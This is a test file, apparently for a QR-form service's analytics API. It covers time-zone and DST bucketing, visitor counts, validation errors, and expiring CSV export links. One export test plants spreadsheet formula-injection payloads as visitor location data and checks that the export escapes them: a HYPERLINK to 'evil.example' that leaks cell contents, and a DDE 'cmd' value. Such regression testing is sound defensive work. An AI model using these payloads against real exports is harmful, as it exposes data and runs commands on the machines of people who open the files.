import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_LINK_TTL_MS } from '../../src/sandbox/routes/analytics.js';
import { inProcessSandbox, type InProcessSandbox } from '../helpers/inProcessSandbox.js';

// spec §4.3 and §2.11 over HTTP: the analytics route, the short link's scans, the CSV link.
let sb: InProcessSandbox;
beforeAll(async () => {
  sb = await inProcessSandbox({ plan: 'business' });
});
afterAll(() => sb.stop());

const FORM = { title: 'Scanned', shortText: 'x', fields: [{ type: 'shortText', option: { label: 'Note' } }] };
async function newForm(): Promise<{ qrId: string; shortUrl: string }> {
  return (await sb.api('POST', '/forms', { body: FORM })).body.data;
}
function scan(qrId: string, iso: string, o: Partial<{ device: string; country: string; city: string; visitor: string; submissionId: string }> = {}) {
  sb.sandbox.store.scans.add({ qrId, atMs: Date.parse(iso), device: o.device ?? 'Mobile', country: o.country ?? 'Japan', city: o.city ?? 'Tokyo', visitor: o.visitor ?? 'v1', submissionId: o.submissionId });
}
const get = (qrId: string, query: string, as: 'owner' | 'viewer' | 'other' = 'owner') => sb.api('GET', `/forms/${qrId}/analytics${query ? `?${query}` : ''}`, { as });

describe('GET /forms/{qrId}/analytics', () => {
  it('buckets a day by hour in the requested zone: 23:30 UTC is 08:30 the next day in Tokyo', async () => {
    const { qrId } = await newForm();
    scan(qrId, '2026-11-20T23:30:00Z');
    const tokyoDay = Date.parse('2026-11-21T12:00:00+09:00') / 1000;
    const r = await get(qrId, `period=day&timestamp=${tokyoDay}&tz=Asia/Tokyo`);
    expect(r.status).toBe(200);
    const points = r.body.data.timeseries.all;
    expect(points).toHaveLength(24);
    expect(points.find((p: any) => p.count === 1)).toEqual({ count: 1, bucket: { year: 2026, month: 11, day: 21, hour: 8 }, date: '2026-11-21T08:00+09:00' });
    const utc = await get(qrId, `period=day&timestamp=${Date.parse('2026-11-20T12:00:00Z') / 1000}&tz=UTC`);
    expect(utc.body.data.timeseries.all.find((p: any) => p.count === 1).bucket).toEqual({ year: 2026, month: 11, day: 20, hour: 23 });
    // the day of the Tokyo query in UTC holds nothing of that scan's local day
    expect(r.body.data).toMatchObject({ form: { qrId, title: 'Scanned' }, period: 'day', submissionFilter: false, scans: 1, uniqueScans: 1 });
  });

  it('answers every period with the documented buckets, DST days included', async () => {
    const { qrId } = await newForm();
    const now = Date.now();
    scan(qrId, new Date(now - 3600_000).toISOString());
    const lengths: Record<string, number> = {};
    for (const period of ['week', 'month', 'months', 'year', 'years']) {
      const r = await get(qrId, `period=${period}&tz=Europe/Berlin`);
      expect(r.status, period).toBe(200);
      expect(r.body.data.scans, period).toBe(1);
      lengths[period] = r.body.data.timeseries.all.length;
    }
    const berlinMonth = Number(new Intl.DateTimeFormat('en', { timeZone: 'Europe/Berlin', month: 'numeric' }).format(new Date()));
    expect(lengths).toEqual({ week: 7, month: 30, months: 6, year: berlinMonth, years: 1 });
    const fallBack = await get(qrId, `period=day&tz=America/New_York&timestamp=${Date.parse('2026-11-01T12:00:00Z') / 1000}`);
    expect(fallBack.body.data.timeseries.all).toHaveLength(25);
    const springForward = await get(qrId, `period=day&tz=America/New_York&timestamp=${Date.parse('2026-03-08T12:00:00Z') / 1000}`);
    expect(springForward.body.data.timeseries.unique).toHaveLength(23);
    const custom = await get(qrId, `period=custom&timestamp=${Date.parse('2026-10-01T00:00:00Z') / 1000}&endTimestamp=${Date.parse('2026-10-07T23:59:59Z') / 1000}`);
    expect(custom.body.data.timeseries.all.map((p: any) => p.date)).toEqual(['2026-10-01', '2026-10-02', '2026-10-03', '2026-10-04', '2026-10-05', '2026-10-06', '2026-10-07']);
  });

  it('counts unique visitors, ranks devices, countries and cities, and filters on submissions', async () => {
    const { qrId } = await newForm();
    const base = Date.parse('2026-10-10T10:00:00Z');
    const at = (m: number) => new Date(base + m * 60_000).toISOString();
    scan(qrId, at(0), { visitor: 'a', device: 'Mobile', country: 'France', city: 'Paris' });
    scan(qrId, at(5), { visitor: 'a', device: 'Mobile', country: 'France', city: 'Paris', submissionId: 'f'.repeat(24) });
    scan(qrId, at(10), { visitor: 'b', device: 'Desktop', country: 'France', city: 'Lyon' });
    scan(qrId, at(20), { visitor: 'c', device: 'Tablet', country: 'Japan', city: 'Tokyo', submissionId: 'e'.repeat(24) });
    const range = `period=custom&timestamp=${base / 1000}&endTimestamp=${base / 1000 + 3600}`;
    const all = (await get(qrId, range, 'viewer')).body.data;
    expect([all.scans, all.uniqueScans]).toEqual([4, 3]);
    expect(all.countries).toEqual([{ country: 'France', count: 3 }, { country: 'Japan', count: 1 }]);
    expect(all.devices[0]).toEqual({ device: 'Mobile', count: 2 });
    expect(all.cities[0]).toEqual({ city: 'Paris', count: 2 });
    expect(all.geoBreakdown).toContainEqual({ device: 'Desktop', country: 'France', city: 'Lyon', count: 1 });
    expect(all.topLocations[0]).toEqual({ city: 'Paris', device: 'Mobile', count: 2 });
    expect(all.socialButtons).toEqual([]);
    const linked = (await get(qrId, `${range}&submission=1`)).body.data;
    expect(linked).toMatchObject({ submissionFilter: true, scans: 2, uniqueScans: 2 });
  });

  it('answers 400 for a bad period, a missing timestamp, a bad zone, and an archived or foreign form', async () => {
    const { qrId } = await newForm();
    const cases: Array<[string, RegExp]> = [
      ['period=7', /^Invalid period "7"/],
      ['period=day', /timestamp .* is required/],
      [`period=custom&timestamp=${1_790_000_000}`, /endTimestamp .* is required/],
      ['period=custom&timestamp=200&endTimestamp=100', /endTimestamp is before timestamp/],
      ['tz=Mars/Olympus', /^Invalid tz/],
      ['period=day&timestamp=soon', /^Invalid timestamp/],
    ];
    for (const [query, message] of cases) {
      const r = await get(qrId, query);
      expect([r.status, r.body.message], query).toEqual([400, expect.stringMatching(message)]);
    }
    expect((await get(qrId, '', 'other')).status).toBe(400);
    await sb.api('PUT', `/forms/${qrId}/archive`);
    expect((await get(qrId, '')).status).toBe(400);
  });
});

describe('the short link records scans', () => {
  it('places a visit by the documented headers, keeps the visitor by cookie, and counts it on the form', async () => {
    const { qrId, shortUrl } = await newForm();
    const first = await fetch(shortUrl, { headers: { 'x-sandbox-country': 'Brazil', 'x-sandbox-city': 'São Paulo'.normalize(), 'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148' } });
    expect(first.status).toBe(200);
    const cookie = first.headers.get('set-cookie')!.split(';')[0]!;
    expect(cookie).toMatch(/^formctl_visitor=[0-9a-f]{16}$/);
    await first.text();
    await (await fetch(shortUrl, { headers: { cookie, 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' } })).text();
    const a = (await get(qrId, 'period=week')).body.data;
    expect([a.scans, a.uniqueScans]).toEqual([2, 1]);
    expect(a.countries).toEqual([{ country: 'Brazil', count: 1 }, { country: 'Unknown', count: 1 }]);
    expect(a.devices).toEqual([{ device: 'Desktop', count: 1 }, { device: 'Mobile', count: 1 }]);
    expect((await sb.api('GET', `/forms/${qrId}`)).body.data.scans).toBe(2);
  });
});

describe('export=1: a CSV link that expires', () => {
  it('serves one row per scan without a key, then 410 after an hour of the sandbox clock; an unknown link is 404', async () => {
    const { qrId } = await newForm();
    const now = Date.now();
    scan(qrId, new Date(now - 7200_000).toISOString(), { city: 'Osaka, Kita', visitor: 'x' });
    scan(qrId, new Date(now - 3600_000).toISOString(), { visitor: 'y', submissionId: 'a'.repeat(24) });
    // a visitor chooses its country and city (X-Sandbox-Country, X-Sandbox-City): no formula a spreadsheet runs
    scan(qrId, new Date(now - 1800_000).toISOString(), { visitor: 'z', country: '=HYPERLINK("http://evil.example/?"&A1,"Click")', city: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const r = await get(qrId, 'export=1&period=week&tz=Asia/Tokyo');
    expect(r.status).toBe(200);
    const { csvUrl } = r.body.data;
    expect(csvUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/exports\/[0-9a-f]{32}\.csv$/);
    const csv = await fetch(csvUrl);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (await csv.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('scannedAt,localTime,device,country,city,visitorId,submissionId');
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain('"Osaka, Kita"');
    expect(lines[2]!.endsWith(`,y,${'a'.repeat(24)}`)).toBe(true);
    expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1)*cmd|' /C calc'!A0,z,`);
    await sb.admin('POST', '/_sandbox/clock', { advanceSeconds: EXPORT_LINK_TTL_MS / 1000 + 1 });
    expect((await fetch(csvUrl)).status).toBe(410);
    expect((await fetch(csvUrl.replace(/[0-9a-f]{32}/, '0'.repeat(32)))).status).toBe(404);
    await sb.admin('POST', '/_sandbox/clock', { advanceSeconds: -(EXPORT_LINK_TTL_MS / 1000 + 1) });
  });
});

describe('POST /_sandbox/seed-scans', () => {
  it('makes realistic scans: returning visitors, several devices and countries, about 15 % linked to real submissions', async () => {
    const { qrId } = await newForm();
    const made = await sb.admin<{ scans: number; submissions: number }>('POST', '/_sandbox/seed-scans', { qrId, count: 2000, days: 30, seed: 42 });
    expect(made.scans).toBe(2000);
    expect(made.submissions).toBeGreaterThan(200);
    expect(made.submissions).toBeLessThan(400);
    const a = (await get(qrId, 'period=month')).body.data;
    expect(a.scans).toBe(2000);
    expect(a.uniqueScans).toBeLessThan(2000);
    expect(a.devices.map((d: any) => d.device)[0]).toBe('Mobile');
    expect(a.countries.length).toBeGreaterThan(8);
    const linked = (await get(qrId, 'period=month&submission=1')).body.data;
    expect(linked.scans).toBe(made.submissions);
    expect((await sb.api('GET', `/forms/${qrId}/submissions?limit=1`)).body.data.total).toBe(made.submissions);
    // a daily rhythm: the busiest local hours are in the day, not the night
    const csvUrl = (await get(qrId, 'export=1&period=month')).body.data.csvUrl;
    const hours = new Array(24).fill(0);
    const rows = (await (await fetch(csvUrl)).text()).trimEnd().split('\r\n').slice(1);
    expect(rows).toHaveLength(2000);
    for (const row of rows) hours[new Date(row.split(',')[0]!).getUTCHours()]++;
    expect(Math.max(...hours)).toBeGreaterThan(2 * Math.min(...hours));
    const bad = await fetch(`${sb.origin}/_sandbox/seed-scans`, { method: 'POST', body: JSON.stringify({ qrId, count: 0 }) });
    expect(bad.status).toBe(400);
  });
});
